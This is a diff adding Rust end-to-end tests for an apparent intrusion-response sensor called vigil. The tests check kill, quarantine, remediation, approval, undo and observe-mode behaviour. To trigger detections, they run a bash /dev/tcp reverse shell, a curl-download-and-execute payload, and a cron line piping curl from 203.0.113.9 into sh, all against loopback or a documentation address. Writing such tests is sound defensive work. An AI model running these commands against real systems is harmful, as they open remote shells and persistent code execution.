@@ -1,0 +1,413 @@
+//! Autonomous response on the real kernel: what the shipped rules and policy contain, how it
+//! is journaled, and how it is undone.
+
+use std::{
+    io::{Read as _, Write as _},
+    net::TcpListener,
+    os::unix::fs::{MetadataExt, PermissionsExt},
+    process::{Command, Stdio},
+    time::{Duration, Instant},
+};
+
+use serde_json::Value;
+use vigil_tests::{HttpServer, Sensor, kernel_tests_enabled, sensor_cmd};
+
+/// One containing sensor at a time: each sees the whole host and would act on the others'
+/// scenarios.
+static ONE_AT_A_TIME: std::sync::Mutex<()> = std::sync::Mutex::new(());
+
+fn serial() -> std::sync::MutexGuard<'static, ()> {
+    ONE_AT_A_TIME
+        .lock()
+        .unwrap_or_else(std::sync::PoisonError::into_inner)
+}
+
+fn run(script: &str) -> (u32, std::process::ExitStatus) {
+    let child = Command::new("/bin/sh")
+        .arg("-c")
+        .arg(script)
+        .stdin(Stdio::null())
+        .spawn()
+        .expect("spawn sh");
+    let pid = child.id();
+    let out = child.wait_with_output().expect("wait");
+    (pid, out.status)
+}
+
+/// Killed by SIGKILL: directly (sh exec'd the payload) or as sh's exit status 137.
+fn killed(status: std::process::ExitStatus) -> bool {
+    std::os::unix::process::ExitStatusExt::signal(&status) == Some(9) || status.code() == Some(137)
+}
+
+fn actions(s: &Sensor) -> Vec<Value> {
+    let state = s.state();
+    let out = sensor_cmd(&["actions", "--json", "--state", &state.to_string_lossy()]);
+    assert!(out.status.success());
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect()
+}
+
+fn wait_action(s: &Sensor, what: &str, pred: impl Fn(&Value) -> bool) -> Value {
+    let deadline = Instant::now() + Duration::from_secs(15);
+    loop {
+        let all = actions(s);
+        if let Some(a) = all.iter().find(|a| pred(a)) {
+            return a.clone();
+        }
+        assert!(
+            Instant::now() < deadline,
+            "no action {what}; journal:\n{}\nalerts:\n{:?}",
+            all.iter()
+                .map(Value::to_string)
+                .collect::<Vec<_>>()
+                .join("\n"),
+            s.alerts()
+                .iter()
+                .map(|a| a["rule"]["id"].to_string())
+                .collect::<Vec<_>>()
+        );
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+fn ctl(s: &Sensor, args: &[&str]) -> std::process::Output {
+    let state = s.state();
+    let mut v: Vec<&str> = args.to_vec();
+    let st = state.to_string_lossy().into_owned();
+    v.extend(["--state", &st]);
+    sensor_cmd(&v)
+}
+
+fn tmp() -> tempfile::TempDir {
+    let d = tempfile::Builder::new()
+        .prefix("vigil-e2e-r-")
+        .tempdir()
+        .expect("tempdir");
+    std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    d
+}
+
+/// A loopback listener that records when its one connection closes.
+fn listener(say: Option<&'static [u8]>) -> (u16, std::thread::JoinHandle<Duration>) {
+    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = l.local_addr().expect("addr").port();
+    let h = std::thread::spawn(move || {
+        let (mut c, _) = l.accept().expect("accept");
+        let t = Instant::now();
+        if let Some(b) = say {
+            let _ = c.write_all(b);
+        }
+        let _ = c.set_read_timeout(Some(Duration::from_secs(20)));
+        let mut buf = [0u8; 256];
+        while matches!(c.read(&mut buf), Ok(n) if n > 0) {}
+        t.elapsed()
+    });
+    (port, h)
+}
+
+#[test]
+fn a_reverse_shell_is_killed_and_its_connection_closed() {
+    if !kernel_tests_enabled("a_reverse_shell_is_killed_and_its_connection_closed") {
+        return;
+    }
+    let _one = serial();
+    let s = Sensor::start_containing(&[]).expect("sensor");
+    let (port, closed) = listener(None);
+    // Nothing is sent: only a kill ends this shell before the listener's 20 s timeout.
+    let (pid, status) = run(&format!(
+        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'"
+    ));
+    let open_for = closed.join().expect("listener");
+    assert!(
+        open_for < Duration::from_secs(10),
+        "the connection stayed open {open_for:?}"
+    );
+    assert!(!status.success(), "the shell was killed: {status}");
+    let kill = wait_action(&s, "kill of the reverse shell", |a| {
+        a["action"] == "kill" && a["status"] == "done"
+    });
+    assert_eq!(kill["undo"]["how"], "impossible");
+    assert!(
+        kill["reason"]
+            .as_str()
+            .is_some_and(|r| r.contains("vigil-reverse-shell"))
+    );
+    assert!(
+        kill["policy_clause"]
+            .as_str()
+            .is_some_and(|c| c.contains("without_approval"))
+    );
+    assert!(!kill["evidence"].as_array().is_none_or(Vec::is_empty));
+    let _ = pid;
+    // Undoing a kill is refused, and the refusal is journaled.
+    let id = kill["id"].as_str().expect("id");
+    let out = ctl(&s, &["undo", id]);
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("impossible"));
+    assert!(
+        actions(&s)
+            .iter()
+            .any(|a| a["settles"] == id && a["status"] == "failed")
+    );
+}
+
+/// A payload served over loopback HTTP, downloaded, made executable and run: the shipped
+/// rules kill it and quarantine it; from then on the kernel kills it at exec, before its
+/// first instruction, even after a restart of the sensor.
+#[test]
+fn a_quarantined_payload_is_killed_in_the_kernel_before_it_runs_even_after_a_restart() {
+    if !kernel_tests_enabled("a_quarantined_payload_is_killed_in_the_kernel") {
+        return;
+    }
+    let _one = serial();
+    let s = Sensor::start_containing(&[]).expect("sensor");
+    let d = tmp();
+    let marker = d.path().join("marker");
+    let srv = d.path().join("srv");
+    std::fs::create_dir(&srv).expect("mkdir");
+    let body = format!("#!/bin/sh\necho ran > {}\nsleep 10\n", marker.display());
+    std::fs::write(srv.join("p.sh"), &body).expect("write");
+    let http = HttpServer::serve(&srv.to_string_lossy(), &[]);
+    let port = http.port;
+    let payload = d.path().join("payload");
+    let p = payload.display();
+    run(&format!(
+        "curl -s -o {p} http://127.0.0.1:{port}/p.sh && chmod +x {p} && {p}"
+    ));
+    drop(http);
+    let q = wait_action(&s, "quarantine of the payload", |a| {
+        a["action"] == "quarantine" && a["status"] == "done"
+    });
+    assert!(!payload.exists(), "the payload left its place");
+    let vault = q["undo"]["vault"].as_str().expect("vault path").to_owned();
+    assert_eq!(
+        std::fs::metadata(&vault)
+            .expect("vault copy")
+            .permissions()
+            .mode()
+            & 0o777,
+        0,
+        "the vault copy is inaccessible"
+    );
+    assert_eq!(q["undo"]["meta"]["size"], body.len());
+
+    // The same payload dropped again at the same path never runs a single instruction.
+    let _ = std::fs::remove_file(&marker);
+    std::fs::write(&payload, &body).expect("re-drop");
+    std::fs::set_permissions(&payload, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    let (_, status) = run(&p.to_string());
+    assert!(killed(status), "killed by SIGKILL: {status}");
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(!marker.exists(), "the blocked payload ran");
+    s.wait_alert("for the blocked exec", |a| {
+        a["rule"]["id"] == "vigil-exec-blocked"
+    });
+
+    // A restart re-arms the block from the journal; nothing of the journal is lost.
+    let before = actions(&s).len();
+    let s = s.restart(&[]).expect("restart");
+    assert_eq!(actions(&s).len(), before);
+    assert!(s.status().expect("status")["actions"]["restored"].as_u64() >= Some(1));
+    let (_, status) = run(&p.to_string());
+    assert!(killed(status), "still killed after a restart: {status}");
+    assert!(!marker.exists(), "the blocked payload ran after a restart");
+
+    // Undo: the file comes back, identical, and runs again.
+    let _ = std::fs::remove_file(&payload);
+    let id = q["id"].as_str().expect("id");
+    let out = ctl(&s, &["undo", id]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(std::fs::read_to_string(&payload).expect("restored"), body);
+}
+
+#[test]
+fn quarantine_then_undo_gives_back_content_owner_and_mode() {
+    if !kernel_tests_enabled("quarantine_then_undo_gives_back_content_owner_and_mode") {
+        return;
+    }
+    let _one = serial();
+    let d = tmp();
+    // Quarantine needs a person's approval under this policy.
+    let policy = d.path().join("approve.toml");
+    std::fs::write(
+        &policy,
+        sensor_userspace_policy().replace("\"quarantine\", ", ""),
+    )
+    .expect("write");
+    let s = Sensor::start_containing(&["--policy", &policy.to_string_lossy()]).expect("sensor");
+    let f = d.path().join("suid-true");
+    std::fs::copy("/bin/true", &f).expect("copy");
+    std::os::unix::fs::chown(&f, Some(4321), Some(4322)).expect("chown");
+    let before = std::fs::read(&f).expect("read");
+    // Setting the setuid bit: contained, but quarantine waits for approval.
+    run(&format!("chmod 4750 {}", f.display()));
+    let pending = wait_action(&s, "pending quarantine", |a| {
+        a["action"] == "quarantine" && a["status"] == "pending"
+    });
+    assert!(f.exists(), "nothing happens before approval");
+    let incident = pending["incident"].as_str().expect("incident");
+    let out = ctl(&s, &["approve", incident]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let done = wait_action(&s, "approved quarantine", |a| {
+        a["action"] == "quarantine" && a["status"] == "done" && a["settles"] == pending["id"]
+    });
+    assert!(!f.exists());
+    assert!(done["requested_by"].is_string());
+    let out = ctl(&s, &["undo", done["id"].as_str().expect("id")]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let m = std::fs::metadata(&f).expect("restored");
+    assert_eq!(
+        std::fs::read(&f).expect("read"),
+        before,
+        "identical content"
+    );
+    assert_eq!((m.uid(), m.gid()), (4321, 4322), "owner");
+    assert_eq!(m.mode() & 0o7777, 0o4750, "mode, setuid bit included");
+}
+
+#[test]
+fn persistence_remediation_removes_only_the_incidents_line() {
+    if !kernel_tests_enabled("persistence_remediation_removes_only_the_incidents_line") {
+        return;
+    }
+    let _one = serial();
+    let cron = std::path::PathBuf::from(format!("/etc/cron.d/vigil-e2e-{}", std::process::id()));
+    struct Cleanup(std::path::PathBuf);
+    impl Drop for Cleanup {
+        fn drop(&mut self) {
+            let _ = std::fs::remove_file(&self.0);
+        }
+    }
+    let _cleanup = Cleanup(cron.clone());
+    std::fs::create_dir_all("/etc/cron.d").expect("cron.d");
+    let legit = "# legitimate jobs\n17 3 * * * root /usr/local/bin/backup\n";
+    std::fs::write(&cron, legit).expect("write");
+    // The sensor starts after the legitimate content exists: it is in the baseline.
+    let s = Sensor::start_containing(&[]).expect("sensor");
+    run(&format!(
+        "echo '* * * * * root curl -s http://203.0.113.9/x | sh' >> {}",
+        cron.display()
+    ));
+    let pending = wait_action(&s, "remediation", |a| a["action"] == "remediate");
+    if pending["status"] == "pending" {
+        let out = ctl(
+            &s,
+            &["approve", pending["incident"].as_str().expect("incident")],
+        );
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+    let done = wait_action(&s, "remediation done", |a| {
+        a["action"] == "remediate" && a["status"] == "done"
+    });
+    assert_eq!(std::fs::read_to_string(&cron).expect("read"), legit);
+    assert_eq!(done["undo"]["how"], "put_back");
+    let out = ctl(&s, &["undo", done["id"].as_str().expect("id")]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(
+        std::fs::read_to_string(&cron).expect("read"),
+        format!("{legit}* * * * * root curl -s http://203.0.113.9/x | sh\n"),
+        "the undo puts the removed line back"
+    );
+}
+
+#[test]
+fn observe_mode_acts_on_nothing_and_records_what_it_would_do() {
+    if !kernel_tests_enabled("observe_mode_acts_on_nothing_and_records_what_it_would_do") {
+        return;
+    }
+    let _one = serial();
+    let d = tmp();
+    let policy = d.path().join("observe.toml");
+    std::fs::write(
+        &policy,
+        sensor_userspace_policy().replace("mode = \"contain\"", "mode = \"observe\""),
+    )
+    .expect("write");
+    let s = Sensor::start_containing(&["--policy", &policy.to_string_lossy()]).expect("sensor");
+    let (port, closed) = listener(Some(b"sleep 1; exit\n"));
+    let (_, status) = run(&format!(
+        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'"
+    ));
+    closed.join().expect("listener");
+    assert!(status.success(), "the shell ran to its own end: {status}");
+    let a = wait_action(&s, "observed kill", |a| a["action"] == "kill");
+    assert_eq!(a["status"], "observed");
+    assert!(
+        a["detail"]
+            .as_str()
+            .is_some_and(|d| d.starts_with("would kill"))
+    );
+    assert!(
+        actions(&s).iter().all(|a| a["status"] == "observed"),
+        "observe mode did something"
+    );
+}
+
+fn sensor_userspace_policy() -> String {
+    std::fs::read_to_string(
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/policy.toml"),
+    )
+    .expect("deploy/policy.toml")
+}
+
+#[test]
+fn a_protected_process_is_never_killed() {
+    if !kernel_tests_enabled("a_protected_process_is_never_killed") {
+        return;
+    }
+    let _one = serial();
+    let d = tmp();
+    let bin = d.path().join("p");
+    std::fs::create_dir(&bin).expect("mkdir");
+    let bash = bin.join("bash");
+    std::fs::copy("/bin/bash", &bash).expect("copy bash");
+    let policy = d.path().join("protect.toml");
+    std::fs::write(
+        &policy,
+        sensor_userspace_policy().replace(
+            "processes = [\"/usr/lib/systemd/systemd\", \"/usr/sbin/sshd\"]",
+            &format!("processes = [\"{}\"]", bash.display()),
+        ),
+    )
+    .expect("write");
+    let s = Sensor::start_containing(&["--policy", &policy.to_string_lossy()]).expect("sensor");
+    let (port, closed) = listener(Some(b"sleep 1; exit\n"));
+    let b = bash.display();
+    let (_, status) = run(&format!(
+        "{b} -c '{b} -i >& /dev/tcp/127.0.0.1/{port} 0>&1'"
+    ));
+    closed.join().expect("listener");
+    assert!(
+        status.success(),
+        "the protected shell was not killed: {status}"
+    );
+    let a = wait_action(&s, "refused kill", |a| a["action"] == "kill");
+    assert_eq!(a["status"], "refused");
+    assert!(
+        a["detail"]
+            .as_str()
+            .is_some_and(|d| d.contains("protected"))
+    );
+}
